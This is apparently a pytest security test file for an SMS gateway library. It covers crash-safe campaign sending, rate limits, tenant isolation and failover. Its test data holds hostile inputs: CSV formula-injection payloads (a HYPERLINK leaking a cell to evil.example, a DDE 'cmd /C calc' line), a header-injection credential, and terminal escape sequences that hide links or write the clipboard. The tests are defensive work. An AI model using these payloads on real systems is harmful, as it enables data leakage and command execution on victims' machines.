"""Attacks, round 5: what changed most recently, judged from the emulators' own records.

Real processes (SIGKILLed at random points) share one PostgreSQL store and one stored
tenant whose configuration another process updates while campaigns run (the kernel's
``Renew``); the vendor's request records and their arrival times say whether every
recipient was texted once and whether a limit was ever exceeded. Then hostile contact
exports, forged and cross-tenant callbacks, and the status poller over stored tenants.
"""
from __future__ import annotations

import csv
import json
import os
import random
import signal
import subprocess
import sys
import time
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from reference_provider import API_KEY, EchoPlugin, create_emulator
from services import pg_url  # noqa: F401  (a fixture)
from smsgate import Gateway
from smsgate.plugins import PluginManager
from smsgate.store import open_store
from smsgate.tenants import StoredTenants
from smsgate.testing import EmulatorControl, LiveServer

HERE = Path(__file__).parent
SRC = HERE.parent / "src"
FERNET_KEY = "p5gWkbqH0f8L1b0yO1jB2k5n2y0dJ3aZQGZc8sXq1Yk="


def _env() -> dict[str, str]:
    return {**os.environ, "PYTHONPATH": os.pathsep.join([str(SRC), str(HERE)])}


def _plugins() -> PluginManager:
    pm = PluginManager(load_entry_points=False)
    pm.register(EchoPlugin())
    return pm


def received(ctl: EmulatorControl) -> Counter[str]:
    """Every number the echo vendor received a message for, with how many times."""
    out: Counter[str] = Counter()
    for r in ctl.requests(method="POST"):
        if not r.path.startswith("/messages"):
            continue
        body = r.json()
        for m in body["messages"] if r.path.endswith("/bulk") else [body]:
            out[m["to"]] += 1
    return out


def arrivals(ctl: EmulatorControl, since: float = 0.0) -> list[tuple[float, int]]:
    """(arrival time, messages carried) of every send request the vendor received after ``since``."""
    out = []
    for r in ctl.requests(method="POST"):
        if r.path.startswith("/messages") and r.at >= since:
            out.append((r.at, len(r.json()["messages"]) if r.path.endswith("/bulk") else 1))
    return sorted(out)


def busiest(events: list[tuple[float, int]], period: float = 1.0) -> int:
    """The most messages any window ``[t, t + period)`` holds."""
    best = total = lo = 0
    for hi in range(len(events)):
        total += events[hi][1]
        while events[hi][0] - events[lo][0] >= period:
            total -= events[lo][1]
            lo += 1
        best = max(best, total)
    return best


# ------------------------------------------------ runners SIGKILLed while the tenant is updated
#: A campaign runner of stored tenant TENANT: STORE_URL TENANT CAMPAIGN_ID KEY.
STORED_RUNNER = r'''
import sys
from smsgate import Gateway
from smsgate.plugins import PluginManager
from smsgate.store import open_store
from smsgate.tenants import StoredTenants
from reference_provider import EchoPlugin
pm = PluginManager(load_entry_points=False)
pm.register(EchoPlugin())
store = open_store(sys.argv[1])
tenants = StoredTenants(store, keys=sys.argv[4], plugins=pm)
with Gateway({"store": "memory://", "tenants": {}}, store=store, plugins=pm, tenants=tenants) as gw:
    gw.tenant(sys.argv[2]).campaigns.get(sys.argv[3]).run()
'''


def _tenant(url: str, rate: int) -> dict[str, Any]:
    return {"default_region": "NG", "sender": "ACME", "providers": {
        "main": {"plugin": "echo", "base_url": url, "credentials": {"api_key": API_KEY}, "rate_limit": rate,
                 "timeout": 2}}}


@pytest.mark.slow
@pytest.mark.postgres
def test_runners_killed_at_random_while_the_tenant_is_updated_send_once_within_the_limits(
        tmp_path: Path, pg_url: str) -> None:  # noqa: F811  (the fixture)
    """Two stored tenants on one PostgreSQL store, each with its own vendor and a campaign
    run by three processes at once; runners are SIGKILLed at random points and replaced,
    while this process updates acme's rate limit from 80/s to 40/s. Then a last runner per
    campaign finishes. From the vendors' records: every recipient of each tenant texted
    exactly once, and only at its own tenant's vendor; acme's vendor never saw more than 80
    messages in any second, nor more than 40 in any second starting a moment after the
    update returned; beta's vendor never more than 60."""
    rng = random.Random(int(os.environ.get("SMSGATE_ATTACK_SEED", "5")))
    pm = _plugins()
    n = 240
    with LiveServer(create_emulator()) as a_srv, LiveServer(create_emulator()) as b_srv, \
            open_store(pg_url) as store:
        a_ctl, b_ctl = EmulatorControl(a_srv.url), EmulatorControl(b_srv.url)
        tenants = StoredTenants(store, keys=FERNET_KEY, plugins=pm)
        tenants.add("acme", _tenant(a_srv.url, 80))
        tenants.add("beta", _tenant(b_srv.url, 60))
        numbers = {"acme": [f"+2348061{i:06d}" for i in range(n)], "beta": [f"+2348071{i:06d}" for i in range(n)]}
        with Gateway({"store": "memory://", "tenants": {}}, store=store, plugins=pm, tenants=tenants) as gw:
            cids = {t: gw.tenant(t).campaigns.create("spring", text="Sale", audience=numbers[t], batch_size=6,
                                                     concurrency=3, lease_seconds=2).campaign_id
                    for t in ("acme", "beta")}
        a_ctl.fault(kind="latency", delay=0.01, path="/messages", count=None)

        def start(t: str) -> subprocess.Popen[bytes]:
            return subprocess.Popen([sys.executable, "-c", STORED_RUNNER, pg_url, t, cids[t], FERNET_KEY],
                                    env=_env(), stderr=subprocess.PIPE)

        procs = [(t, start(t)) for t in ("acme", "beta") for _ in range(3)]
        updated_at = None
        t0 = time.monotonic()
        kills = 0
        while time.monotonic() - t0 < 5:
            time.sleep(rng.uniform(0.2, 0.6))
            if updated_at is None and time.monotonic() - t0 > 1.5:
                tenants.update("acme", _tenant(a_srv.url, 40))
                updated_at = time.time()
            alive = [(i, p) for i, p in enumerate(procs) if p[1].poll() is None]
            if not alive:
                break
            i, (t, p) = rng.choice(alive)
            p.send_signal(signal.SIGKILL)
            p.communicate()
            kills += 1
            procs[i] = (t, start(t))
        for t, p in procs:
            _, err = p.communicate(timeout=120)
            assert p.returncode in (0, -signal.SIGKILL), err.decode()[-2000:]
        time.sleep(2.5)  # every dead runner's lease ended: the last runner takes its claims over
        for t in ("acme", "beta"):
            last = start(t)
            _, err = last.communicate(timeout=120)
            assert last.returncode == 0, err.decode()[-2000:]
        assert kills >= 4
        for t, ctl in (("acme", a_ctl), ("beta", b_ctl)):
            got = received(ctl)
            assert set(got) == set(numbers[t]), f"{t}: lost {len(set(numbers[t]) - set(got))}, " \
                                                f"foreign {len(set(got) - set(numbers[t]))}"
            assert max(got.values()) == 1, f"{t}: duplicates {[k for k, v in got.items() if v > 1][:5]}"
        assert busiest(arrivals(a_ctl)) <= 80
        assert updated_at is not None
        assert busiest(arrivals(a_ctl, updated_at + 1.0)) <= 40
        assert busiest(arrivals(b_ctl)) <= 60


# ------------------------------------------------------------ hostile contacts, exported as CSV
HOSTILE = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")": {"note": "+SUM(1,2)", "code": "@cmd|' /C calc'!A0"},
    "-2+3": {"note": "=1+1", "code": "\t=2"},
    "Ada": {"note": "'=already quoted", "code": "\r=3"},
}
#: A field whose name is a formula (the export's header cell)
FORMULA_FIELD = "=HYPERLINK(\"http://evil.example\")"


def test_an_exported_list_opened_in_a_spreadsheet_runs_no_formula(tmp_path: Path) -> None:
    """Contacts whose name or fields start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
    return (a signup form's input, say) are exported with those cells quoted for spreadsheets
    (a leading ``'``, OWASP's CSV-injection rule), so opening the export runs nothing; the phone
    column (E.164, ``+`` and digits) is left as it is; and the file still reads back as the
    same list with ``CsvAudience``."""
    from smsgate.campaigns import CsvAudience

    contacts = [{"phone": f"+23480312345{i:02d}", "name": name, **fields, FORMULA_FIELD: "x"}
                for i, (name, fields) in enumerate(HOSTILE.items())]
    out = tmp_path / "vip.csv"
    with Gateway({"store": f"sqlite:///{tmp_path / 's.db'}", "tenants": {"acme": {
            "default_region": "NG", "providers": {"p": {"plugin": "echo", "base_url": "http://127.0.0.1:9",
                                                        "credentials": {"api_key": API_KEY}}}}}},
                 plugins=_plugins()) as gw:
        lists = gw.tenant("acme").contact_lists
        lid = lists.create("vip", contacts).contact_list.list_id
        assert lists.export(lid, out) == 3
        before = {c.phone: (c.name, dict(c.fields)) for c in lists.contacts(lid)}

        with open(out, newline="", encoding="utf-8") as fh:
            rows = list(csv.reader(fh))
        for row in rows:
            assert row[0] == "phone" or row[0].startswith("+234")
            for cell in row[1:]:
                assert not cell or cell[0] not in "=+-@\t\r", f"a formula reaches the spreadsheet: {cell!r}"
        again = lists.create("again", CsvAudience(out)).contact_list.list_id
        after = {c.phone: (c.name, dict(c.fields)) for c in lists.contacts(again)}
    assert after == before


# ------------------------------------ a campaign's provider gone from its tenant's configuration
def _stored(url: str, instance: str) -> dict[str, Any]:
    return {"default_region": "NG", "sender": "ACME", "providers": {
        instance: {"plugin": "echo", "base_url": url, "credentials": {"api_key": API_KEY}}}}


@pytest.mark.parametrize("when", ["before", "during"])
def test_a_campaign_whose_provider_left_the_tenant_stops_and_loses_no_recipient(tmp_path: Path, when: str) -> None:
    """A campaign sent through provider ``main`` of a stored tenant whose configuration
    another process updates (``main`` renamed ``other``) before or while it runs. The run
    stops with a ConfigError naming the provider before claiming more: the recipients not
    sent stay ``pending`` (the campaign ``interrupted``), and once ``main`` is back a new run
    sends each of them once (the vendor's records). Before, every later recipient was
    skipped ``no_route`` and the campaign completed: 186 of 200 never texted."""
    import threading

    from smsgate.errors import ConfigError

    pm = _plugins()
    numbers = [f"+2348061{i:06d}" for i in range(200)]
    with LiveServer(create_emulator()) as srv, open_store(f"sqlite:///{tmp_path / 's.db'}") as store:
        ctl = EmulatorControl(srv.url)
        StoredTenants(store, keys=FERNET_KEY, plugins=pm).add("acme", _stored(srv.url, "main"))
        other = StoredTenants(store, keys=FERNET_KEY, plugins=pm)  # another process's
        with Gateway({"store": "memory://", "tenants": {}}, store=store, plugins=pm,
                     tenants=StoredTenants(store, keys=FERNET_KEY, plugins=pm)) as gw:
            camp = gw.tenant("acme").campaigns.create("s", text="x", audience=numbers, batch_size=2, concurrency=1,
                                                      provider="main")

            def update() -> None:
                deadline = time.monotonic() + 20
                while when == "during" and len(ctl.requests(method="POST")) < 5 and time.monotonic() < deadline:
                    time.sleep(0.005)
                other.update("acme", _stored(srv.url, "other"))

            th = threading.Thread(target=update)
            th.start()
            if when == "before":
                th.join()
            with pytest.raises(ConfigError, match="provider 'main', which the tenant no longer has") as err:
                camp.run()
            th.join()
            assert err.value.field == "tenants.acme.providers.main"
            p = camp.progress()
            assert (p.status.value, p.skipped, p.sending, p.unknown) == ("interrupted", 0, 0, 0)
            assert p.pending > 100 and p.sent == sum(received(ctl).values())
            other.update("acme", _stored(srv.url, "main"))
            camp.run()
            assert camp.progress().status.value == "completed"
        got = received(ctl)
        assert set(got) == set(numbers) and max(got.values()) == 1


# ------------------------------------------------- a credential with a line break at its end
SECRET = "sk_live_TOPSECRET9"


@pytest.mark.parametrize("bad", [SECRET + "\n", SECRET + "\x00", SECRET + "\r\nX-Evil: 1"])
def test_a_credential_that_cannot_go_in_a_header_fails_over_and_is_never_shown(
        bad: str, caplog: pytest.LogCaptureFixture) -> None:
    """A credential ending in a line break (read from a secrets file) cannot be written in a
    header: h11 refuses the request before a byte leaves. Judged from the vendor's records:
    nothing reached it through the bad instance, the message failed over and was delivered
    once through the next; no error text, cause or smsgate log line holds the secret. Before,
    it was ``UnknownOutcome`` ("after the request was sent; the provider may have processed
    it"): never failed over, every message ``unknown``, and the raised error's cause quoted
    the header's value (the secret) into any traceback."""
    import logging
    import traceback

    from smsgate.errors import TransportError

    caplog.set_level(logging.DEBUG, logger="smsgate")
    with LiveServer(create_emulator()) as srv:
        ctl = EmulatorControl(srv.url)
        prov = {"plugin": "echo", "base_url": srv.url, "max_retries": 0}
        cfg = {"store": "memory://", "tenants": {"acme": {"default_region": "NG", "sender": "ACME", "providers": {
            "bad": {**prov, "credentials": {"api_key": bad}},
            "good": {**prov, "credentials": {"api_key": API_KEY}}}}}}
        with Gateway(cfg, plugins=_plugins()) as gw:
            acme = gw.tenant("acme")
            r = acme.send("+2348031234567", "hi")
            assert (r.status.value, r.provider) == ("submitted", "good"), r
            with pytest.raises(TransportError) as err:
                acme.send("+2348031234568", "hi", provider="bad")
            shown = "".join(traceback.format_exception(err.value)) + repr(err.value.args)
            assert SECRET not in shown and "nothing was sent" in shown
            assert [m.status.value for m in gw.store.list_messages("acme", limit=10)
                    if m.to == "+2348031234568"] == ["failed"]
        keys = [req.headers.get("x-api-key") for req in ctl.requests(method="POST")]
        assert keys == [API_KEY]
        assert received(ctl) == Counter({"+2348031234567": 1})
    assert not [rec.getMessage() for rec in caplog.records if SECRET in rec.getMessage()]


# ----------------------------------------------- a removed tenant's name given to a new tenant
def test_a_new_tenant_given_a_removed_tenants_name_sees_none_of_its_data(tmp_path: Path) -> None:
    """Customer one is stored as ``acme``, sends, keeps a contact list and an opt-out, and is
    removed; customer two is then added as ``acme``. Customer two must not read customer
    one's messages or contacts: ``add`` refuses the name while data is left (or the data went
    with the removal)."""
    from smsgate.errors import ConfigError, UnknownTenant

    pm = _plugins()
    with LiveServer(create_emulator()) as srv, open_store(f"sqlite:///{tmp_path / 's.db'}") as store:
        tenants = StoredTenants(store, keys=FERNET_KEY, plugins=pm)
        tenants.add("acme", _stored(srv.url, "main"))
        with Gateway({"store": "memory://", "tenants": {}}, store=store, plugins=pm, tenants=tenants) as gw:
            one = gw.tenant("acme")
            one.send("+2348031234567", "your code is 123456")
            one.contact_lists.create("vip", ["+2348031234568"])
            one.optouts.add("+2348031234569")
            assert tenants.remove("acme")
            with pytest.raises(ConfigError, match="messages, contact lists, opt-outs") as refused:
                tenants.add("acme", _stored(srv.url, "main"))
            assert refused.value.field == "tenants.acme" and "erase" in str(refused.value)
            with pytest.raises(UnknownTenant):  # nothing was stored
                gw.tenant("acme").contact_lists.list()
            assert tenants.erase("acme") > 0
            tenants.add("acme", _stored(srv.url, "main"))
            two = gw.tenant("acme")
            assert two.contact_lists.list() == []
            assert store.list_messages("acme", limit=10) == []
            assert two.optouts.list() == []
            with pytest.raises(ConfigError, match="remove it first"):  # a stored tenant's data is not erased
                tenants.erase("acme")


def test_a_tenant_moved_from_the_configuration_file_takes_its_data_over_when_told(tmp_path: Path) -> None:
    """A tenant of the configuration file moved into the store: refused while the name holds
    data, stored with ``adopt_data=True``, and it then reads its own messages."""
    from smsgate.errors import ConfigError

    pm = _plugins()
    with LiveServer(create_emulator()) as srv, open_store(f"sqlite:///{tmp_path / 's.db'}") as store:
        with Gateway({"store": "memory://", "tenants": {"acme": _stored(srv.url, "main")}}, store=store,
                     plugins=pm) as gw:
            sent = gw.tenant("acme").send("+2348031234567", "hello")
        tenants = StoredTenants(store, keys=FERNET_KEY, plugins=pm)
        with pytest.raises(ConfigError, match="adopt"):
            tenants.add("acme", _stored(srv.url, "main"))
        tenants.add("acme", _stored(srv.url, "main"), adopt_data=True)
        with Gateway({"store": "memory://", "tenants": {}}, store=store, plugins=pm, tenants=tenants) as gw:
            assert gw.tenant("acme").status(sent.message_id).message_id == sent.message_id


@pytest.mark.parametrize("driver", ["sync", "async"])
def test_a_celery_chunk_whose_provider_left_the_tenant_fails_typed_and_sends_no_more(
        tmp_path: Path, driver: str) -> None:
    """A Celery chunk task (run as a worker runs it) of a campaign sent through ``main``; the
    tenant is updated after the first request so that ``main`` is gone. The task fails with
    the ConfigError naming the provider (typed through Celery), its other claims go back to
    ``pending`` and nothing is skipped; the vendor got only the first chunk's requests."""
    import uuid

    celery = pytest.importorskip("celery")
    from smsgate.contrib.celery import _close_gateways, configure
    from smsgate.errors import ConfigError
    from smsgate.hookspecs import hookimpl
    from smsgate.models import CampaignStatus

    pm = _plugins()
    numbers = [f"+2348061{i:06d}" for i in range(40)]
    with LiveServer(create_emulator()) as srv, open_store(f"sqlite:///{tmp_path / 's.db'}") as store:
        ctl = EmulatorControl(srv.url)
        tenants = StoredTenants(store, keys=FERNET_KEY, plugins=pm)
        tenants.add("acme", _stored(srv.url, "main"))

        class Rename:
            done = False

            @hookimpl
            def smsgate_after_send(self, tenant: str, message: Any, result: Any) -> None:
                if not self.done:
                    self.done = True
                    StoredTenants(store, keys=FERNET_KEY, plugins=pm).update("acme", _stored(srv.url, "other"))

        try:
            with Gateway({"store": "memory://", "tenants": {}}, store=store, plugins=pm, tenants=tenants) as gw:
                cid = gw.tenant("acme").campaigns.create("s", text="x", audience=numbers, batch_size=2,
                                                         concurrency=1, provider="main").campaign_id
                gw.store.update_campaign("acme", cid, status=CampaignStatus.RUNNING)
                pm.register(Rename())
                app = celery.Celery(f"attack5-{uuid.uuid4().hex[:8]}", broker="memory://", set_as_current=False)
                configure(app, gateway=lambda: gw, chunk_size=100, driver=driver)
                result = app.tasks["smsgate.send_chunk"].apply(("acme", cid, 100))
                assert result.failed() and isinstance(result.result, ConfigError), result.traceback
                assert result.result.field == "tenants.acme.providers.main"
                counts = Counter(r.state.value for r in store.recipients("acme", cid, limit=100))
                sent = sum(received(ctl).values())
        finally:
            _close_gateways()
    assert counts == Counter({"sent": sent, "pending": 40 - sent}), counts
    assert sent <= 2


# ------------------------------------------- terminal escapes in what strangers send, at the CLI
#: What a stranger's SMS (or a vendor's report, or an imported contact) may carry to an
#: operator's terminal: clear the screen, colour, a hidden hyperlink (OSC 8), the clipboard
#: (OSC 52), the window title, a C1 CSI.
ESCAPES = ["\x1b[2J", "\x1b[31m", "\x1b]8;;http://evil.example\x1b\\", "\x1b]52;c;ZXZpbA==\x07",
           "\x1b]0;title\x07", "\x9b31m"]


def test_the_cli_never_writes_a_strangers_terminal_escapes(tmp_path: Path) -> None:
    """An inbound SMS whose text holds terminal escape sequences (anyone can text the
    number), a contact imported with them, shown by ``smsgate inbound`` and ``smsgate contacts
    show``: the output holds no ESC, BEL or C1 control, each shown visibly instead (``\\x1b``).
    Before, they reached the operator's terminal as they were (the screen cleared, a link
    hidden under innocent text, the clipboard written)."""
    from typer.testing import CliRunner

    from smsgate.cli import app
    from smsgate.models import InboundMessage

    cfg = tmp_path / "smsgate.toml"
    cfg.write_text(f'store = "sqlite:///{tmp_path / "s.db"}"\n[tenants.acme]\ndefault_region = "NG"\n'
                   '[tenants.acme.providers.main]\nplugin = "memory"\n')
    evil = "hi " + "".join(ESCAPES) + " there"
    with Gateway(str(cfg)) as gw:
        acme = gw.tenant("acme")
        acme.ingest_inbound("main", [InboundMessage(vendor_id="v1", from_number="+2348031234567", text=evil)])
        lid = acme.contact_lists.create("vip", [{"phone": "+2348031234568", "name": evil, "note": evil}]
                                        ).contact_list.list_id
    runner = CliRunner()
    for args in (["inbound", "-c", str(cfg)], ["contacts", "show", lid, "-c", str(cfg)]):
        out = runner.invoke(app, args)
        assert out.exit_code == 0, out.output
        assert "hi " in out.output
        bad = sorted({hex(ord(c)) for c in out.output if (ord(c) < 32 and c not in "\n") or 0x7f <= ord(c) <= 0x9f})
        assert not bad, f"{args[0]}: control characters reach the terminal: {bad}"
        assert "\\x1b" in out.output
    out = runner.invoke(app, ["contacts", "show", "\x1b[2Jvip", "-c", str(cfg)])  # an error naming it
    assert out.exit_code == 2 and "error:" in out.output and "\x1b" not in out.output, repr(out.output)


# --------------------------------------- purge under an interrupted campaign, then a resume
def test_a_purge_under_an_interrupted_campaign_never_makes_a_resume_text_twice(tmp_path: Path) -> None:
    """A runner process is SIGKILLed with requests out (its recipients claimed, their messages
    logged ahead); the status poller later learns they were delivered (final). A purge with a
    cutoff after those messages, while the campaign is still unfinished, then a resume: the
    vendor must not get any of those recipients twice (the resume cannot tell a purged
    message from one never logged)."""
    from datetime import timedelta

    from smsgate.models import Status, utcnow
    from smsgate.store.base import MessageUpdate

    numbers = [f"+2348061{i:06d}" for i in range(30)]
    with LiveServer(create_emulator()) as srv:
        ctl = EmulatorControl(srv.url)
        cfg = {"store": f"sqlite:///{tmp_path / 's.db'}", "tenants": {"acme": {
            "default_region": "NG", "sender": "ACME", "providers": {"main": {
                "plugin": "echo", "base_url": srv.url, "credentials": {"api_key": API_KEY}, "timeout": 1}}}}}
        (tmp_path / "cfg.json").write_text(json.dumps(cfg))
        with Gateway(cfg, plugins=_plugins()) as gw:
            cid = gw.tenant("acme").campaigns.create("s", text="x", audience=numbers, batch_size=2, concurrency=4,
                                                     lease_seconds=1).campaign_id
        ctl.fault(kind="latency", delay=0.4, path="/messages", count=None)
        proc = subprocess.Popen([sys.executable, str(HERE / "campaign_worker.py"), str(tmp_path / "cfg.json"), cid],
                                env=_env(), stderr=subprocess.PIPE)
        deadline = time.monotonic() + 20
        while len(ctl.requests(method="POST")) < 6 and time.monotonic() < deadline:
            time.sleep(0.01)
        proc.send_signal(signal.SIGKILL)
        proc.communicate()
        time.sleep(0.5)  # the vendor acted on the requests that were out
        with Gateway(cfg, plugins=_plugins()) as gw:
            store = gw.store
            # the poller can only learn a verdict for a message the vendor received: a claim
            # whose request had not left when the runner died (a slow machine) stays as it is
            sent = received(ctl)
            claimed = [r for r in store.recipients("acme", cid, limit=100)
                       if r.state.value == "sending" and r.phone in sent]
            assert claimed, "the kill left no claim: nothing to attack"
            now = utcnow()
            # the status poller's verdict (by reference): delivered, final
            store.update_messages("acme", [MessageUpdate(message_id=r.message_id, status=Status.DELIVERED, at=now,
                                                         source="poller") for r in claimed if r.message_id])
            purged = store.purge("acme", before=now + timedelta(seconds=1))
            assert purged.messages == 0 and purged.kept_messages >= len(claimed)  # an unfinished campaign's
            time.sleep(1.2)  # the dead runner's lease ended
            gw.tenant("acme").campaigns.get(cid).run()
        got = received(ctl)
        assert set(got) == set(numbers)
        assert max(got.values()) == 1, f"texted twice: {sorted(k for k, v in got.items() if v > 1)}"


def test_an_async_run_of_a_campaign_whose_provider_left_the_tenant_stops_too(tmp_path: Path) -> None:
    """The same rule under the async driver: ``main`` gone from the stored tenant before
    an async run, it raises the ConfigError naming it and sends nothing, skipping nobody."""
    import asyncio

    from smsgate import AsyncGateway
    from smsgate.errors import ConfigError

    pm = _plugins()
    numbers = [f"+2348061{i:06d}" for i in range(10)]
    with LiveServer(create_emulator()) as srv, open_store(f"sqlite:///{tmp_path / 's.db'}") as store:
        ctl = EmulatorControl(srv.url)
        tenants = StoredTenants(store, keys=FERNET_KEY, plugins=pm)
        tenants.add("acme", _stored(srv.url, "main"))

        async def go() -> None:
            async with AsyncGateway({"store": "memory://", "tenants": {}}, store=store, plugins=pm,
                                    tenants=tenants) as agw:
                camp = await agw.tenant("acme").campaigns.create("s", text="x", audience=numbers, batch_size=2,
                                                                 provider="main")
                StoredTenants(store, keys=FERNET_KEY, plugins=pm).update("acme", _stored(srv.url, "other"))
                with pytest.raises(ConfigError, match="provider 'main'"):
                    await camp.run()
                p = await camp.progress()
                assert (p.status.value, p.pending, p.skipped) == ("interrupted", 10, 0)

        asyncio.run(go())
        assert received(ctl) == Counter()


# ------------------------------------------ rotating a stored tenant the file's tenant shadows
def test_rotating_a_stored_tenant_the_configuration_file_shadows_is_refused(tmp_path: Path) -> None:
    """``acme`` is in smsgate.toml and also stored (added through the library: ``tenant add``
    refuses such a name). ``smsgate tenant rotate acme main`` to replace a leaked key must
    not say it replaced the credentials while every gateway goes on using the file's (the
    leaked one): it is refused, exit 2, naming the file's tenant, and nothing is stored.
    Before, it said "credentials of main replaced" and the leaked key stayed in use."""
    from typer.testing import CliRunner

    from smsgate.cli import app

    db = tmp_path / "s.db"
    cfg = tmp_path / "smsgate.toml"
    cfg.write_text(f'store = "sqlite:///{db}"\n[tenants.acme]\ndefault_region = "NG"\n'
                   '[tenants.acme.providers.main]\nplugin = "memory"\ncredentials = { api_key = "leaked" }\n')
    with open_store(f"sqlite:///{db}") as store:
        tenants = StoredTenants(store, keys=FERNET_KEY)
        version = tenants.add("acme", {"default_region": "NG", "providers": {
            "main": {"plugin": "memory", "credentials": {"api_key": "old"}}}})
    out = CliRunner().invoke(app, ["tenant", "rotate", "acme", "main", "-", "-c", str(cfg)],
                             input='api_key = "new"\n', env={"SMSGATE_TENANT_KEY": FERNET_KEY})
    assert out.exit_code == 2, out.output
    assert "replaced" not in out.output and "configuration file" in out.output, out.output
    with open_store(f"sqlite:///{db}") as store:
        got = StoredTenants(store, keys=FERNET_KEY).get("acme")
        assert got is not None and got[1] == version


def test_a_credential_that_cannot_go_in_a_header_fails_over_on_aiohttp_too() -> None:
    """The same on the aiohttp client (its ValueError for such a header is httpx's
    LocalProtocolError, smsgate.aio's table): failed over, the secret in no traceback."""
    import asyncio
    import traceback

    pytest.importorskip("aiohttp")
    from smsgate import AsyncGateway
    from smsgate.aio import AiohttpClient
    from smsgate.errors import TransportError

    async def go(url: str) -> None:
        prov = {"plugin": "echo", "base_url": url, "max_retries": 0}
        cfg = {"store": "memory://", "tenants": {"acme": {"default_region": "NG", "sender": "ACME", "providers": {
            "bad": {**prov, "credentials": {"api_key": SECRET + "\n"}},
            "good": {**prov, "credentials": {"api_key": API_KEY}}}}}}
        async with AiohttpClient() as client, AsyncGateway(cfg, plugins=_plugins(), http_client=client) as agw:
            r = await agw.tenant("acme").send("+2348031234567", "hi")
            assert (r.status.value, r.provider) == ("submitted", "good")
            with pytest.raises(TransportError) as err:
                await agw.tenant("acme").send("+2348031234568", "hi", provider="bad")
            assert SECRET not in "".join(traceback.format_exception(err.value))

    with LiveServer(create_emulator()) as srv:
        asyncio.run(go(srv.url))
        assert [r.headers.get("x-api-key") for r in EmulatorControl(srv.url).requests(method="POST")] == [API_KEY]
